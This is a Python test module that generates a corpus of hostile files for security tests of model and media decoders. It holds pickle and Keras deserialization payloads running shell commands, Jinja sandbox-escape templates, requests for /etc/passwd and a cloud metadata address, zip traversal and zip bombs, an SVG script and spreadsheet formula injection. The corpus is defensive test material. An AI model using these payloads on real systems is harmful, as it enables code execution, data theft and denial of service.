"""The hostile corpus: files that somebody made to run code here, to fill the memory or the disk, to take for ever, or
to write elsewhere. All are made by code, and small."""

from __future__ import annotations

import base64
import functools
import io
import json
import marshal
import pickle
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

CANARY = "layerwise-hostile-canary"
"""The name of the file that appears in the working folder when code of a sample was run."""


@dataclass(frozen=True)
class Sample:
    """A hostile file.

    Args:
        name: What it tries.
        data: Its bytes.
        doors: The decoders that must refuse it. All others may read it, if that is what it looks like to them.
    """

    name: str
    data: bytes
    doors: tuple[str, ...]


class _Runs:
    """What runs a command when it is unpickled."""

    def __reduce__(self):
        return (Path(CANARY).touch, ())


class _Shell:
    def __reduce__(self):
        import os

        return (os.system, (f"touch {CANARY}",))


def _zip(files: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), content, compress_type=compression)
    return buffer.getvalue()


EVERYWHERE = ("picture", "sound", "parquet", "tokenizer", "weights", "published", "record", "body")
"""The doors through which only their own format goes."""


def pickles() -> Iterator[Sample]:
    """Pickles, whatever they are called."""
    for number, payload in enumerate((_Runs(), _Shell())):
        for protocol in (0, 2, 5):
            data = pickle.dumps(payload, protocol)
            doors = (*EVERYWHERE, "archive", "upload", "coco", "answer_of_a_worker")
            yield Sample(f"pickle {number} of protocol {protocol}", data, doors)
    inside = pickle.dumps(_Runs())
    torch = _zip({"archive/data.pkl": inside, "archive/version": b"3\n", "archive/data/0": b"\0" * 16})
    yield Sample("a PyTorch checkpoint", torch, (*EVERYWHERE, "upload"))
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + inside
    yield Sample("an array of objects as .npy", npy, (*EVERYWHERE, "archive", "upload"))
    yield Sample("an array of objects as .npz", _zip({"a.npy": npy}), (*EVERYWHERE, "upload"))
    yield Sample("marshalled code", marshal.dumps(compile(f"open({CANARY!r}, 'w')", "x", "exec")), EVERYWHERE)


def _keras(config: dict[str, object], weights: bytes = b"\x89HDF\r\n\x1a\n") -> bytes:
    files = {
        "metadata.json": json.dumps({"keras_version": "3.15.0"}).encode(),
        "config.json": json.dumps(config).encode(),
    }
    return _zip({**files, "model.weights.h5": weights})


def keras_archives() -> Iterator[Sample]:
    """Saved models in the manner of what was found in Keras. Nothing here loads one."""
    code = marshal.dumps(compile(f"lambda x: open({CANARY!r}, 'w')", "x", "eval"))
    function = {"class_name": "__lambda__", "config": {"code": base64.b64encode(code).decode(), "defaults": None}}
    lambda_layer = {"module": "keras.layers", "class_name": "Lambda", "config": {"function": function}}
    touch = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    called = {"name": "x", "call": {"args": [f"touch {CANARY}"], "kwargs": {}}}
    get_file = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}
    unsafe = {
        "module": "keras.config",
        "class_name": "function",
        "config": "enable_unsafe_deserialization",
        "registered_name": "enable_unsafe_deserialization",
    }
    configs = {
        "a Lambda layer": lambda_layer,
        "CVE-2025-1550: any function of any module": {**touch, "inbound_nodes": [called]},
        "CVE-2025-8747: a download by get_file": {**get_file, "args": ["http://127.0.0.1:9/evil", "/tmp/evil"]},
        "CVE-2025-9906: safe mode switched off by the config": {"layers": [unsafe, lambda_layer]},
    }
    for name, config in configs.items():
        model = {"module": "keras", "class_name": "Sequential", "config": {"layers": [config]}}
        yield Sample(f"Keras, {name}", _keras(model), (*EVERYWHERE, "upload"))
    legacy = b"\x89HDF\r\n\x1a\n" + json.dumps({"model_config": {"layers": [lambda_layer]}}).encode()
    yield Sample("Keras, CVE-2025-9905: a Lambda layer in HDF5", legacy, (*EVERYWHERE, "archive", "upload"))


def hdf5() -> Iterator[Sample]:
    """HDF5 that says it holds a petabyte."""
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        file.create_dataset("kernel", shape=(2**25, 2**25), dtype="float64", chunks=(1, 1))
    yield Sample("HDF5 of a petabyte", buffer.getvalue(), (*EVERYWHERE, "archive"))


def _safetensors(header: object, data: bytes = b"", length: int | None = None) -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + data


def safetensors() -> Iterator[Sample]:
    """Headers that lie."""

    def array(shape: object, start: object, end: object, dtype: str = "F32") -> dict[str, object]:
        return {"dtype": dtype, "shape": shape, "data_offsets": [start, end]}

    four, doors = b"\0" * 16, ("weights", "published")
    headers: dict[str, bytes] = {
        "a header longer than the file": _safetensors({}, length=2**40),
        "a header longer than any": _safetensors({}, length=2**64 - 1),
        "a header of 200 MB": struct.pack("<Q", 200 * 2**20) + b"{" + b" " * 1000,
        "a shape that is larger than the data": _safetensors({"a": array([2**20, 2**20], 0, 16)}, four),
        "a shape whose product overflows": _safetensors({"a": array([2**33, 2**33], 0, 16)}, four),
        "a negative shape": _safetensors({"a": array([-4], 0, 16)}, four),
        "a shape of text": _safetensors({"a": array(["4"], 0, 16)}, four),
        "offsets beyond the end": _safetensors({"a": array([4], 0, 2**40)}, four),
        "offsets the wrong way round": _safetensors({"a": array([4], 16, 0)}, four),
        "offsets that overlap": _safetensors({"a": array([4], 0, 16), "b": array([2], 8, 16)}, four),
        "offsets with a hole": _safetensors({"a": array([2], 0, 8), "b": array([2], 12, 20)}, four + b"\0" * 4),
        "an unknown type": _safetensors({"a": array([4], 0, 16, "OBJECT")}, four),
        "no JSON": _safetensors(b"{'a': 1"),
        "deep JSON": _safetensors(b"[" * 100_000),
        "a list": _safetensors([]),
        "metadata that are none": _safetensors({"__metadata__": {"a": {"b": 1}}}),
        "nothing": b"",
        "seven bytes": b"\0" * 7,
        "data after the end": _safetensors({"a": array([1], 0, 4)}, four),
    }
    for name, data in headers.items():
        yield Sample(f"safetensors, {name}", data, doors)
    twice = (
        b'{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}'
    )
    yield Sample("safetensors, a name twice", _safetensors(twice, four), ())


def deep_json() -> Iterator[Sample]:
    """JSON that overflows the stack of whoever follows it."""
    doors = ("picture", "parquet", "tokenizer", "record", "body", "coco", "dialogues")
    yield Sample("JSON of a million lists", b"[" * 1_000_000, doors)
    yield Sample("JSON of deep objects", b'{"a":' * 200_000 + b"1" + b"}" * 200_000, doors)
    yield Sample("JSON that is deep in its inputs", b'{"inputs":' + b"[" * 200_000 + b"]" * 200_000 + b"}", ("body",))
    inner = json.dumps("[" * 200_000)
    yield Sample("JSON in JSON", f'{{"inputs": {{"json": {inner}}}}}'.encode(), ("body",))
    yield Sample("a number of a million digits", b'{"inputs": ' + b"9" * 1_000_000 + b"}", ("body", "record"))
    yield Sample("a file by its path", b'{"inputs": {"image": "/etc/passwd", "audio": "/etc/passwd"}}', ("body",))
    yield Sample("a file by its address", b'{"inputs": {"image": "http://169.254.169.254/"}}', ("body",))
    yield Sample("a file as Gradio has it", b'{"inputs": {"image": {"path": "/etc/passwd"}}}', ("body",))


def tokenizers() -> Iterator[Sample]:
    """Poisoned tokenizers."""

    def made(**parts: object) -> bytes:
        base = {"version": "1.0", "added_tokens": [], "model": {"type": "BPE", "vocab": {"a": 0}, "merges": []}}
        return json.dumps({**base, **parts}).encode()

    models: dict[str, object] = {
        "merges of what is not there": {"type": "BPE", "vocab": {"a": 0}, "merges": [["x", "y"]]},
        "numbers beyond any": {"type": "BPE", "vocab": {"a": 2**80}, "merges": []},
        "negative numbers": {"type": "WordPiece", "vocab": {"a": -1}, "unk_token": "a"},
        "a model of another library": {"type": "Pickle", "code": "import os"},
        "Unigram without pieces": {"type": "Unigram", "vocab": [], "unk_id": 7},
    }
    for name, model in models.items():
        yield Sample(f"a tokenizer with {name}", made(model=model), ("tokenizer",))
    expression = {"type": "Split", "pattern": {"Regex": "((a"}, "behavior": "Isolated", "invert": False}
    yield Sample("a tokenizer with a broken expression", made(pre_tokenizer=expression), ("tokenizer",))


def templates() -> Iterator[Sample]:
    """Chat templates that want out of the sandbox."""
    texts = {
        "reach for classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "reach for modules": f"{{{{ cycler.__init__.__globals__.os.system('touch {CANARY}') }}}}",
        "reach through format": "{{ '{0.__class__}'.format(messages) }}",
        "fill the memory": "{{ 'a' * 10000000000 }}",
        "fill the memory with a list": "{{ [0] * 10000000000 }}",
        "compute for ever": "{{ 9 ** 9999999999 }}",
        "count for ever": "{% for i in range(10000000000) %}{% endfor %}",
        "change what they are given": "{{ messages.append(1) }}",
    }
    for name, text in texts.items():
        doors = () if name == "reach through format" else ("template",)
        yield Sample(f"a template to {name}", text.encode(), doors)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, *more: bytes, depth: int = 8) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, depth, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + b"".join(more) + _chunk(b"IEND", b"")


def pictures() -> Iterator[Sample]:
    """Pictures that would fill the memory, and files that pretend to be some."""
    zeros = zlib.compress(bytes(50 * 2**20), 9)
    yield Sample("a PNG of a gigapixel", _png(65_000, 65_000, _chunk(b"IDAT", zeros)), ("picture",))
    yield Sample("a PNG of more than memory", _png(2**31 - 1, 2**31 - 1, _chunk(b"IDAT", zeros)), ("picture",))
    text = _chunk(b"zTXt", b"a\0\0" + zeros)
    yield Sample("a PNG with a text of 50 MB", _png(2, 2, text, _chunk(b"IDAT", zlib.compress(b"\0\1\2" * 2))), ())
    yield Sample("a PNG without pixels", _png(0, 0), ("picture",))
    yield Sample("a GIF of any size", b"GIF89a\xff\xff\xff\xff\x00\x00\x00," + b"\0" * 20, ("picture",))
    yield Sample(
        "a BMP that is larger than it is",
        b"BM" + struct.pack("<IHHIIiiHHIIiiII", 54, 0, 0, 54, 40, 2**30, 2**30, 1, 24, 0, 0, 0, 0, 0, 0),
        ("picture",),
    )
    tiff = (
        b"II*\0"
        + struct.pack("<I", 8)
        + struct.pack("<H", 1)
        + struct.pack("<HHII", 256, 4, 1, 2**31)
        + struct.pack("<I", 8)
    )
    yield Sample("a TIFF that names itself as the next", tiff, ("picture",))
    yield Sample("PostScript", b"%!PS-Adobe-3.0 EPSF-3.0\n(touch) run\n", ("picture",))
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="file:///etc/passwd"/></svg>'
    yield Sample("an SVG with a script", svg, ("picture",))
    webp = b"RIFF\x10\0\0\0WEBPVP8L\x08\0\0\0/\xff\xff\xff\xff\xff\xff\xff"
    yield Sample("a WebP that is cut off", webp, ("picture", "sound"))


def sounds() -> Iterator[Sample]:
    """Sounds that would fill the memory, or have something else opened."""

    def wave(channels: int, rate: int, bits: int, size: int, data: bytes = b"\0" * 64) -> bytes:
        align = channels * bits // 8 & 0xFFFF
        head = struct.pack("<HHIIHH", 1, channels, rate, rate * align & 0xFFFFFFFF, align, bits)
        return (
            b"RIFF"
            + struct.pack("<I", size)
            + b"WAVEfmt "
            + struct.pack("<I", 16)
            + head
            + b"data"
            + struct.pack("<I", size)
            + data
        )

    yield Sample("a WAV of 1,000 channels", wave(1000, 48_000, 8, 2**20, b"\0" * 2**20), ("sound",))
    yield Sample("a WAV without channels", wave(0, 48_000, 16, 64), ("sound",))
    yield Sample("a WAV at 4 GHz", wave(1, 2**32 - 1, 16, 64), ("sound",))
    yield Sample("a WAV of 4 GB that is not there", wave(2, 44_100, 16, 2**32 - 1), ("sound",))
    yield Sample(
        "a FLAC of years",
        b"fLaC\x80\0\0\x22" + b"\x10\0\x10\0" + b"\0" * 6 + b"\x0a\xc4\x42\xff\xff\xff\xff\xff" + b"\0" * 16,
        ("sound",),
    )
    yield Sample("a list of what else to play", b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n", ("sound",))
    yield Sample("a list for FFmpeg", b"ffconcat version 1.0\nfile /etc/passwd\n", ("sound",))
    yield Sample("a list that begins like MP4", b"\0\0\0\x20ftyp" + b"#EXTM3U\nfile:///etc/passwd\n", ("sound",))
    yield Sample("Matroska that never ends", b"\x1a\x45\xdf\xa3" + b"\x01" + b"\xff" * 7 + b"\0" * 100, ("sound",))


def archives() -> Iterator[Sample]:
    """Archives that write elsewhere, or much."""
    doors = ("archive", "upload")
    for name in ("../evil", "/tmp/evil", "a/../../evil", "C:\\evil", "..\\evil"):
        yield Sample(f"a zip with {name}", _zip({name: b"evil"}), doors)
    yield Sample("a zip bomb", _zip({"a.txt": bytes(300 * 2**20)}), doors)
    link = zipfile.ZipInfo("link", (2026, 1, 1, 0, 0, 0))
    link.external_attr = 0o120777 << 16
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    yield Sample("a zip with a link", buffer.getvalue(), doors)
    nested = _zip({"cat/1.txt": b"x"})
    for _ in range(20):
        nested = _zip({"cat/inner.zip": nested})
    yield Sample("a zip in a zip in a zip", nested, ("upload",))
    whole = _zip({"cat/1.png": b"x" * 100})
    end = whole.rindex(b"PK\5\6")
    yield Sample(
        "a zip of 65,535 files that are not there",
        whole[: end + 8] + b"\xff\xff\xff\xff" + whole[end + 12 :],
        ("upload",),
    )
    many = _zip({f"{'deep/' * 100}{number}.txt": b"" for number in range(20)})
    yield Sample("a zip of deep folders", many, ("upload",))
    names = ("<script>alert(1)</script>.png", "=cmd|'/C calc'!A0.png", "a\r\nb.png")
    yield Sample("a zip whose names are HTML and formulas", _zip({f"cat/{name}": b"x" for name in names}), ("upload",))


def texts() -> Iterator[Sample]:
    """Texts that take for ever."""
    yield Sample("a SMILES of a million atoms", b"C" * 1_000_000, ("smiles",))
    yield Sample("a SMILES of deep branches", b"C(" * 4_000 + b"C" + b")" * 4_000, ("smiles",))
    yield Sample("a SMILES of open rings", b"".join(b"C%%%d" % (10 + number % 90) for number in range(89)), ("smiles",))
    yield Sample("a SMILES of isotopes", b"[" + b"9" * 5_000 + b"C]", ("smiles",))
    yield Sample("an SGF of open brackets", b"(;" + b"B[" * 90_000, ("sgf",))
    yield Sample("an SGF of deep variations", b"(;GM[1]" + b"(" * 190_000, ())
    yield Sample("an SGF of a huge board", b"(;GM[1]SZ[1000000000];B[zz])", ("sgf",))
    yield Sample("an SGF of no board", b"(;GM[1]SZ[-1]KM[nan];B[ee])", ("sgf",))
    yield Sample("a FASTA of a million headers", b">a\n" * 1_000_000, ("fasta",))
    yield Sample("a FASTA of other letters", b">a\n" + b"\xff\0" * 10_000, ("fasta",))
    yield Sample("a CSV of one line", b"a," * 2_000_000, ("csv", "points"))
    yield Sample("a CSV whose columns are all called the same", b"a," * 200_000 + b"a\n", ("csv", "points"))
    yield Sample("a CSV of a cell that never ends", b'a,b\n"' + b"x" * 2_000_000, ("csv", "points"))
    yield Sample("a CSV of other widths", b"a,b\n1,2\n1\n", ("csv", "points"))
    yield Sample("a CSV of nothing but ends", b"\n" * 1_000_000, ("csv", "points"))
    yield Sample("a CSV of bytes", bytes(range(256)) * 1_000, ("csv", "points"))
    yield Sample("a CSV that is no number", b"x,y,label\nnan,inf,a\n1,2,b\n", ("points",))
    yield Sample("a CSV of UTF-16 that is cut off", b"\xff\xfea\0,\0b\0\n\0\0\xd8", ())
    yield Sample("a Parquet that is cut off", b"PAR1" + b"\xff" * 64 + b"\xff\xff\xff\x7fPAR1", ("parquet",))


@functools.cache
def corpus() -> tuple[Sample, ...]:
    """All samples."""
    models = (pickles, keras_archives, hdf5, safetensors, tokenizers, templates)
    inputs = (deep_json, pictures, sounds, archives, texts)
    return tuple(sample for make in (*models, *inputs) for sample in make())
